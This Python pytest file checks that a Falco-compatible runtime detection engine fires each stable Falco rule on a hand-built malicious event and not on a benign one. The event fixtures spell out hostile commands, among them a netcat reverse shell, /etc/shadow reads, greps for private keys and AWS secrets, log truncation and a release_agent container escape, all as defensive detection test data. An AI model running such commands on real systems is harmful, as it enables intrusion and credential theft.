"""Conformance with upstream Falco rules (shared data in conformance/runtime).

Loads stable, incubating and sandbox in that order without error, pins the exact set of rules we
disable for lack of fields (so gaps stay explicit), and runs a table of events derived by hand
from each stable rule's condition: one that must trigger it and one that must not.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from garrison.model.runtime import Priority
from garrison.runtime.rules import RuleSet, load_result, load_rules
from garrison.runtime.rules.testing import ancestor, make_event

FILES = ("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")

# Falco fields our event model cannot supply, per rule (the rule is disabled with a warning).
EXPECTED_UNSUPPORTED = {
    "Contact K8S API Server From Container": ["fd.sip.name"],
    "Unexpected inbound connection source": ["fd.cip.name"],
    "Launch Sensitive Mount Container": [
        "container.mount.dest[/proc*]",
        "container.mount.dest[/var/run/docker.sock]",
        "container.mount.dest[/var/run/crio/crio.sock]",
        "container.mount.dest[/run/containerd/containerd.sock]",
        "container.mount.dest[/var/lib/kubelet]",
        "container.mount.dest[/var/lib/kubelet/pki]",
        "container.mount.dest[/]",
        "container.mount.dest[/home/admin]",
        "container.mount.dest[/etc]",
        "container.mount.dest[/etc/kubernetes]",
        "container.mount.dest[/etc/kubernetes/manifests]",
        "container.mount.dest[/root*]",
    ],
    "Detect outbound connections to common miner pool ports": ["fd.sip.name"],
    "Java Process Class File Download": ["evt.buffer"],
    "Basic Interactive Reconnaissance": ["proc.is_vpgid_leader"],
}

CONTAINER = "4f1d2c3b4a5e6f708192a3b4c5d6e7f8"
CAP_SYS_MODULE = 1 << 16
CAP_SYS_ADMIN = 1 << 21


@pytest.fixture(scope="module")
def paths(conformance_dir: Path) -> list[Path]:
    return [conformance_dir / "runtime" / f for f in FILES]


@pytest.fixture(scope="module")
def stable(paths: list[Path]) -> RuleSet:
    return load_rules([paths[0]])


def test_all_three_files_load_in_order_without_error(paths: list[Path]) -> None:
    ruleset, res = load_result(paths)
    assert res.errors == []
    assert len(ruleset.all_rules) == 93  # 25 + 31 + 37 rules, names are unique across files
    print("unsupported:", ruleset.unsupported)
    assert ruleset.unsupported == EXPECTED_UNSUPPORTED
    for name in EXPECTED_UNSUPPORTED:
        assert any(name in w and "LOAD_UNSUPPORTED_FILTER" in w for w in ruleset.warnings)
    loaded = {r.name for r in ruleset.rules}
    assert not loaded & set(EXPECTED_UNSUPPORTED)
    # sandbox rules shipped with enabled: false stay off
    disabled = {r.name for r in ruleset.all_rules if not r.enabled}
    assert len(disabled) == 12 and not disabled & loaded


def test_each_file_loads_alone(paths: list[Path]) -> None:
    for p in paths:
        _, res = load_result([p])
        assert res.errors == [], p.name


def test_later_file_replaces_list_definitions(paths: list[Path]) -> None:
    # falco_containers differs between stable and incubating: load order decides the content
    both = load_rules(paths[:2])
    only = load_rules(paths[:1])
    ev = make_event("execve", name="shred", container=CONTAINER)
    assert any(a.rule == "Remove Bulk Data from Disk" for a in both.evaluate(ev))
    assert any(a.rule == "Remove Bulk Data from Disk" for a in only.evaluate(ev))


def test_priority_filter(paths: list[Path]) -> None:
    rs = load_rules([paths[0]], min_priority=Priority.CRITICAL)
    assert {r.name for r in rs.rules} == {
        "Detect release_agent File Container Escapes",
        "Drop and execute new binary in container",
        "Fileless execution via memfd_create",
    }


def test_event_type_index(stable: RuleSet) -> None:
    types = stable.event_types()
    assert types is not None
    assert {"execve", "openat", "connect", "ptrace", "dup2", "symlinkat", "linkat", "finit_module"} <= types
    assert {r.name for r in stable.rules_for("ptrace")} == {"PTRACE attached to process", "PTRACE anti-debug attempt"}


def _sshd_session() -> list[Any]:
    return [ancestor("bash"), ancestor("sshd"), ancestor("systemd")]


# rule -> (event that must trigger it, event that must not)
STABLE_CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "Directory traversal monitored file read": (
        {
            "evt_type": "openat",
            "name": "php-fpm",
            "file": "/var/www/html/../../../etc/passwd",
            "flags": "O_RDONLY",
            "ancestors": ["php-fpm", "systemd"],
        },
        {
            "evt_type": "openat",
            "name": "cat",
            "file": "/var/www/html/../../../etc/passwd",
            "flags": "O_RDONLY",
            "ancestors": ["bash", "sshd"],
        },
    ),
    "Read sensitive file trusted after startup": (
        {"evt_type": "openat", "name": "nginx", "file": "/etc/shadow", "flags": "O_RDONLY", "start_age": 600},
        {"evt_type": "openat", "name": "nginx", "file": "/etc/shadow", "flags": "O_RDONLY", "start_age": 1},
    ),
    "Read sensitive file untrusted": (
        {"evt_type": "openat", "name": "cat", "file": "/etc/shadow", "flags": "O_RDONLY"},
        {"evt_type": "openat", "name": "sudo", "file": "/etc/shadow", "flags": "O_RDONLY"},
    ),
    "Run shell untrusted": (
        {"evt_type": "execve", "name": "sh", "args": ["-c", "id"], "ancestors": ["nginx", "nginx", "systemd"]},
        {"evt_type": "execve", "name": "sh", "args": ["-c", "id"], "ancestors": ["bash", "nginx", "systemd"]},
    ),
    "System user interactive": (
        {"evt_type": "execve", "name": "ls", "user": "www-data", "uid": 33, "ancestors": ["bash", "sshd", "systemd"]},
        {"evt_type": "execve", "name": "ls", "user": "alice", "uid": 1000, "ancestors": ["bash", "sshd", "systemd"]},
    ),
    "Terminal shell in container": (
        {
            "evt_type": "execve",
            "name": "bash",
            "tty": 34816,
            "container": CONTAINER,
            "ancestors": ["conmon", "systemd"],
        },
        {"evt_type": "execve", "name": "bash", "tty": 0, "container": CONTAINER, "ancestors": ["conmon", "systemd"]},
    ),
    "Netcat Remote Code Execution in Container": (
        {"evt_type": "execve", "name": "nc", "args": ["-e", "/bin/sh", "10.1.1.1", "4444"], "container": CONTAINER},
        {"evt_type": "execve", "name": "nc", "args": ["-l", "-p", "8080"], "container": CONTAINER},
    ),
    "Search Private Keys or Passwords": (
        {"evt_type": "execve", "name": "grep", "args": ["-r", "BEGIN PRIVATE", "/home"]},
        {"evt_type": "execve", "name": "grep", "args": ["-r", "TODO", "/home"]},
    ),
    "Clear Log Activities": (
        {"evt_type": "openat", "name": "python3", "file": "/var/log/syslog", "flags": "O_WRONLY|O_TRUNC"},
        {"evt_type": "openat", "name": "python3", "file": "/var/log/syslog", "flags": "O_WRONLY|O_APPEND"},
    ),
    "Remove Bulk Data from Disk": (
        {"evt_type": "execve", "name": "shred", "args": ["-u", "/data/db"]},
        {"evt_type": "execve", "name": "rm", "args": ["-rf", "/data/db"]},
    ),
    "Create Symlink Over Sensitive Files": (
        {"evt_type": "symlinkat", "name": "ln", "evt_args": {"target": "/etc/shadow", "linkpath": "/tmp/s"}},
        {"evt_type": "symlinkat", "name": "ln", "evt_args": {"target": "/tmp/notes", "linkpath": "/tmp/s"}},
    ),
    "Create Hardlink Over Sensitive Files": (
        {"evt_type": "linkat", "name": "ln", "evt_args": {"oldpath": "/etc/shadow", "newpath": "/tmp/h"}},
        {"evt_type": "linkat", "name": "ln", "evt_args": {"oldpath": "/tmp/a", "newpath": "/tmp/h"}},
    ),
    "Packet socket created in container": (
        {"evt_type": "socket", "name": "scapy", "container": CONTAINER, "evt_args": {"domain": 17, "type": 3}},
        {"evt_type": "socket", "name": "scapy", "container": CONTAINER, "evt_args": {"domain": 2, "type": 1}},
    ),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        {"evt_type": "dup2", "name": "bash", "container": CONTAINER, "res": 1, "sip": "203.0.113.9", "sport": 4444},
        {"evt_type": "dup2", "name": "bash", "container": CONTAINER, "res": 7, "sip": "203.0.113.9", "sport": 4444},
    ),
    "Linux Kernel Module Injection Detected": (
        {"evt_type": "finit_module", "name": "insmod", "container": CONTAINER, "cap_effective": CAP_SYS_MODULE},
        {"evt_type": "finit_module", "name": "insmod", "container": CONTAINER, "cap_effective": 0},
    ),
    "Debugfs Launched in Privileged Container": (
        {"evt_type": "execve", "name": "debugfs", "container": CONTAINER, "privileged": True},
        {"evt_type": "execve", "name": "debugfs", "container": CONTAINER, "privileged": False},
    ),
    "Detect release_agent File Container Escapes": (
        {
            "evt_type": "openat",
            "name": "sh",
            "file": "/tmp/cgrp/release_agent",
            "flags": "O_WRONLY|O_CREAT|O_TRUNC",
            "container": CONTAINER,
            "cap_effective": CAP_SYS_ADMIN,
        },
        {
            "evt_type": "openat",
            "name": "sh",
            "file": "/tmp/cgrp/release_agent",
            "flags": "O_WRONLY|O_CREAT|O_TRUNC",
            "container": CONTAINER,
            "cap_effective": 0,
        },
    ),
    "PTRACE attached to process": (
        {"evt_type": "ptrace", "name": "inject", "evt_args": {"request": 16, "pid": 1}},
        {"evt_type": "ptrace", "name": "inject", "evt_args": {"request": 2, "pid": 1}},
    ),
    "PTRACE anti-debug attempt": (
        {"evt_type": "ptrace", "name": "malware", "evt_args": {"request": 0}},
        {"evt_type": "ptrace", "name": "malware", "evt_args": {"request": 16}},
    ),
    "Find AWS Credentials": (
        {"evt_type": "execve", "name": "grep", "args": ["-ri", "aws_secret_access_key", "/"]},
        {"evt_type": "execve", "name": "find", "args": ["/", "-name", "*.txt"]},
    ),
    "Execution from /dev/shm": (
        {"evt_type": "execve", "name": "x", "exe": "/dev/shm/x"},
        {"evt_type": "execve", "name": "x", "exe": "/usr/local/bin/x"},
    ),
    "Drop and execute new binary in container": (
        {"evt_type": "execve", "name": "payload", "container": CONTAINER, "exe_upper_layer": True},
        {"evt_type": "execve", "name": "payload", "container": CONTAINER, "exe_upper_layer": False},
    ),
    "Disallowed SSH Connection Non Standard Port": (
        {"evt_type": "connect", "name": "ssh", "exe": "/usr/bin/ssh", "sip": "198.51.100.7", "sport": 443},
        {"evt_type": "connect", "name": "ssh", "exe": "/usr/bin/ssh", "sip": "198.51.100.7", "sport": 22},
    ),
    "Fileless execution via memfd_create": (
        {"evt_type": "execve", "name": "3", "exe": "memfd:payload", "exe_from_memfd": True},
        {"evt_type": "execve", "name": "runc", "exe": "memfd:runc_cloned:/proc/self/exe", "exe_from_memfd": True},
    ),
}


def test_every_supported_stable_rule_has_a_case(stable: RuleSet) -> None:
    assert {r.name for r in stable.rules} == set(STABLE_CASES)


def _fired(rs: RuleSet, kw: dict[str, Any]) -> set[str]:
    args = dict(kw)
    return {a.rule for a in rs.evaluate(make_event(args.pop("evt_type"), **args))}


@pytest.mark.parametrize("rule", sorted(STABLE_CASES))
def test_stable_rule_positive(stable: RuleSet, rule: str) -> None:
    assert rule in _fired(stable, STABLE_CASES[rule][0])


@pytest.mark.parametrize("rule", sorted(STABLE_CASES))
def test_stable_rule_negative(stable: RuleSet, rule: str) -> None:
    assert rule not in _fired(stable, STABLE_CASES[rule][1])


def test_stable_output_formatting(stable: RuleSet) -> None:
    ev = make_event("execve", name="nc", args=["-e", "/bin/sh", "10.1.1.1", "4444"], container=CONTAINER)
    (alert,) = [a for a in stable.evaluate(ev) if a.rule == "Netcat Remote Code Execution in Container"]
    assert alert.output == (
        "Netcat runs inside container that allows remote code execution | evt_type=execve user=root user_uid=0 "
        "user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc parent=bash command=nc -e /bin/sh 10.1.1.1 4444 "
        "terminal=0 exe_flags=<NA>"
    )
    assert alert.priority is Priority.WARNING
    assert "T1059" in alert.mitre
    assert alert.fields["proc.cmdline"] == "nc -e /bin/sh 10.1.1.1 4444"
    assert alert.fields["evt.arg.flags"] is None
    assert alert.fields["container.id"] == CONTAINER[:12]


def test_grouped_evaluation_matches_per_rule_functions(paths: list[Path]) -> None:
    """The per-event-type generated function (shared field reads) agrees with each rule's own function."""
    from test_runtime_rules_pack import CASES

    from garrison.runtime.rules import default_pack

    rs = load_rules([*paths, *default_pack()])
    cases = [*STABLE_CASES.values(), *CASES.values()]
    checked = 0
    for pos, neg in cases:
        for kw in (pos, neg):
            ev = make_event(kw["evt_type"], **{k: v for k, v in kw.items() if k != "evt_type"})
            expected = [r.name for r in rs.rules_for(ev.type) if r.fn is not None and r.fn(ev)]
            assert [a.rule for a in rs.evaluate(ev)] == expected
            checked += len(expected)
    assert checked >= len(cases)
